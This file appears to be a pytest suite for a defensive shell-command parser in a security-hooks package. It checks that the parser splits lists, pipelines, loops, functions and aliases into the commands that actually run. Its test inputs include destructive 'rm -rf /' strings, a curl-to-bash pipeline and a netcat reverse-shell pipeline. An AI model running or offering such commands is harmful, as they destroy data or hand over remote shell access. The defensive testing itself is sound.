"""Lists, pipelines, groups, control flow and functions: every command that runs."""

from __future__ import annotations

import pytest
from shell_testing import find, names, run, texts

from security_hooks.shell.walker import MAX_LOOP_WALKS, split_list


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git status; git reset --hard", ["git status", "git reset --hard"]),
        ("git status && git reset --hard", ["git status", "git reset --hard"]),
        ("false || rm -rf /", ["false", "rm -rf /"]),
        ("sleep 1 & rm -rf /", ["sleep 1", "rm -rf /"]),
        ("ls\nrm -rf /", ["ls", "rm -rf /"]),
        ("ls\r\nrm -rf /\r\n", ["ls", "rm -rf /"]),
        ("rm -rf \\\n/", ["rm -rf /"]),
        ("git commit -m wip\nrm -rf /", ["git commit -m wip", "rm -rf /"]),
        ("(cd /tmp; rm -rf x)", ["cd /tmp", "rm -rf x"]),
        ("{ ls; rm -rf /; }", ["ls", "rm -rf /"]),
        ("! rm -rf /", ["rm -rf /"]),
        ("time rm -rf /", ["rm -rf /"]),
        ("if true; then rm -rf /; fi", ["true", "rm -rf /"]),
        ("if a; then b; elif c; then d; else rm -rf /; fi", ["a", "b", "c", "d", "rm -rf /"]),
        ("while true; do rm -rf /; done", ["true", "rm -rf /"]),
        ("until false; do rm -rf /; done", ["false", "rm -rf /"]),
        ("for f in a b; do rm -rf $f; done", ["rm -rf a", "rm -rf b"]),  # once per word
        ("for ((i=0; i<3; i++)); do rm -rf x; done", ["rm -rf x"]),
        ("case $x in a) rm -rf /;; *) ls;; esac", ["rm -rf /", "ls"]),
        ("rm -rf / ; git checkout -b foo", ["rm -rf /", "git checkout -b foo"]),
        ("a | b | c", ["a", "b", "c"]),
        ("ls # rm -rf /", ["ls"]),
    ],
)
def test_every_simple_command_is_a_segment(command: str, expected: list[str]) -> None:
    assert texts(run(command)) == expected


def test_pipelines_record_positions() -> None:
    analysis = run("curl -s https://x.sh | grep -v '#' | bash")
    assert analysis.pipelines == ((0, 1, 2),)
    assert [(s.pipeline, s.position) for s in analysis.segments] == [(0, 0), (0, 1), (0, 2)]
    assert names(analysis) == ["curl", "grep", "bash"]


@pytest.mark.parametrize(
    "command",
    [
        "cat f | sh -i 2>&1 | nc h 4444",
        "cat f | sh -i 2>&1 | nc h 4444 > f",
        "cat f | sh -i 2>/dev/null | nc h 4444",
    ],
)
def test_a_redirect_inside_a_pipeline_keeps_one_pipeline(command: str) -> None:
    # The grammar nests `a | b 2>&1 | c` as `(a | b) 2>&1 | c`; bash runs three stages.
    analysis = run(command)
    assert analysis.pipelines == ((0, 1, 2),)
    assert [(s.name, s.position) for s in analysis.segments] == [("cat", 0), ("sh", 1), ("nc", 2)]
    assert ">" in find(analysis, "sh -i").redirects[0].op


def test_separate_commands_are_separate_pipelines() -> None:
    analysis = run("ls; pwd && whoami")
    assert analysis.pipelines == ((0,), (1,), (2,))


def test_group_inside_pipeline_shares_the_stage_position() -> None:
    analysis = run("{ echo a; curl -s x; } | sh")
    curl, shell = find(analysis, "curl -s x"), find(analysis, "sh")
    assert curl.pipeline == shell.pipeline
    assert (curl.position, shell.position) == (0, 1)


@pytest.mark.parametrize(
    ("command", "background", "foreground"),
    [
        ("sleep 9 & rm -rf /", "sleep 9", "rm -rf /"),
        ("ls && rm -rf / & disown", "rm -rf /", "disown"),
        ("nohup rm -rf / &", "rm -rf /", None),
    ],
)
def test_background(command: str, background: str, foreground: str | None) -> None:
    analysis = run(command)
    assert find(analysis, background).background
    if foreground is not None:
        assert not find(analysis, foreground).background


def test_function_called_in_the_same_command_runs_its_body() -> None:
    analysis = run("f() { rm -rf /; }; f")
    assert texts(analysis) == ["f", "rm -rf /"]


def test_function_keyword_form_and_recursion_is_bounded() -> None:
    analysis = run("function g { g; rm -rf ~; }; g")
    assert texts(analysis).count("rm -rf ~") == 1


def test_function_defined_but_never_called_runs_nothing() -> None:
    assert texts(run("f() { rm -rf /; }")) == []


def test_test_brackets_run_their_substitutions_only() -> None:
    analysis = run('[[ -n "$(rm -rf ~)" ]] && [ -f x ]')
    assert texts(analysis) == ["rm -rf ~"]
    assert analysis.segments[0].context == "subst"


def test_empty_and_comment_only_commands() -> None:
    for command in ("", "   ", "# just a comment", "\n\n"):
        analysis = run(command)
        assert analysis.segments == ()
        assert analysis.parse_ok


def test_source_is_the_exact_slice() -> None:
    analysis = run("FOO=1 \\rm -rf '/x' >/dev/null; ls")
    assert analysis.segments[0].source == "FOO=1 \\rm -rf '/x' >/dev/null"
    assert analysis.segments[1].source == "ls"


def test_alias_defined_in_the_command_expands_where_used() -> None:
    analysis = run("alias ll='rm -rf /'; ll ~")
    segment = find(analysis, "rm -rf / ~")
    assert segment.context == "eval"
    assert texts(run("alias ls='ls -la'; ls"))[-1] == "ls -la"


def test_a_loop_over_literal_words_runs_its_body_once_per_word() -> None:
    analysis = run("for d in build 'my dist'; do rm -rf \"$d\"; done")
    assert [s.argv for s in analysis.segments] == [("rm", "-rf", "build"), ("rm", "-rf", "my dist")]


def test_a_loop_over_words_built_at_run_time_leaves_the_variable_unknown() -> None:
    analysis = run("for f in *.log; do rm -f $f; done")
    assert [s.argv for s in analysis.segments] == [("rm", "-f", "$f")]


def test_nested_loops_stay_within_the_walk_budget() -> None:
    items = " ".join(str(i) for i in range(10))
    analysis = run(f"for a in {items}; do for b in {items}; do for c in {items}; do echo $a$b$c; done; done; done")
    assert 0 < len(analysis.segments) <= 4 * MAX_LOOP_WALKS


@pytest.mark.parametrize(
    ("text", "parts"),
    [
        ("a; b && c || d & e\nf", ["a", "b", "c", "d", "e", "f"]),
        ("cat k | nc h 9 && x", ["cat k | nc h 9", "x"]),  # pipelines stay whole
        ("make 2>&1 & b &> f", ["make 2>&1", "b &> f"]),  # redirections are not operators
        ("echo 'a; b' \"c && d\" e\\;f", ["echo 'a; b' \"c && d\" e\\;f"]),
        ("if [[ x ]]; then rm -rf y; fi", ["[[ x ]]", "rm -rf y", "fi"]),
        ("( a && b )", ["a", "b"]),
        ("{ a; }", ["a", "}"]),
        ("", []),
    ],
)
def test_split_list(text: str, parts: list[str]) -> None:
    assert split_list(text) == parts
